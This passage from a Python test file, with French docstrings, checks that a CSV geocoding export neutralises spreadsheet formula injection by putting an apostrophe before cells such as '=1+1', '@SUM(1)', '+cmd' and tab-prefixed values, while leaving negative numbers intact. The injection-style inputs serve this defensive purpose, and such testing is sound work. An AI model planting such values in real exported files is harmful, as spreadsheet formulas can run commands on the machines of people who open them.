    """Comme les autres exports CSV (``csv_text``) : une apostrophe devant ce qu'un tableur prendrait pour
    une formule ; un nombre (longitude négative) reste un nombre. Le chemin rapide (lignes recopiées
    telles quelles) et le chemin général (une cellule sur deux lignes) donnent la même chose."""
    lon, lat = malakoff
    rows = [["=id", "lon", "lat", "note", "autre"]]
    rows += [[str(i), f"{lon}", f"{lat}", text, "-1.5"] for i, text in enumerate(FORMULAS)]
    rows += [["9", "-1.5536", "47.2184", "texte\nsur deux lignes" if multiline else "texte", "\tonglet"]]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=sep, lineterminator="\n").writerows(rows)
    (tmp_path / "in.csv").write_text(buffer.getvalue(), encoding="utf-8")
    run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
    _, out = read_output(tmp_path / "out.csv")
    assert out[0][0] == "'=id"
    assert [row[3] for row in out[1:5]] == ["'" + text for text in FORMULAS]
    assert all(row[4] == "-1.5" for row in out[1:5])  # nombres intacts
    assert out[5][1] == "-1.5536" and out[5][4] == "'\tonglet"
    assert [row[7] for row in out[1:5]] == ["DANS_QPV"] * 4
    for row in out:
        for cell in row:
            assert cell[:1] not in {"=", "+", "@", "\t"}, cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell


def test_csv_fast_path_inserts_the_apostrophe_in_lines_without_quotes(tmp_path, malakoff):
    """Sans guillemets dans le fichier, les lignes sont recopiées octet par octet : l'apostrophe y est
    insérée au début de chaque cellule à protéger, et nulle part ailleurs."""
    lon, lat = malakoff
    cells = ["@SUM(1)", "-2+3", "=1+1", "'=x", "+cmd", "-1.5", "+2", "a=b", "'texte", "-", "1e-5"]
    lines = ["n;lon;lat;a;b"] + [f"{i};{lon};{lat};{c};{c}" for i, c in enumerate(cells)]
    (tmp_path / "in.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
    _, out = read_output(tmp_path / "out.csv")
    expected = ["'@SUM(1)", "'-2+3", "'=1+1", "''=x", "'+cmd", "-1.5", "+2", "a=b", "'texte", "'-", "1e-5"]
    assert [row[3] for row in out[1:]] == expected and [row[4] for row in out[1:]] == expected
    assert all(row[7] == "DANS_QPV" for row in out[1:])
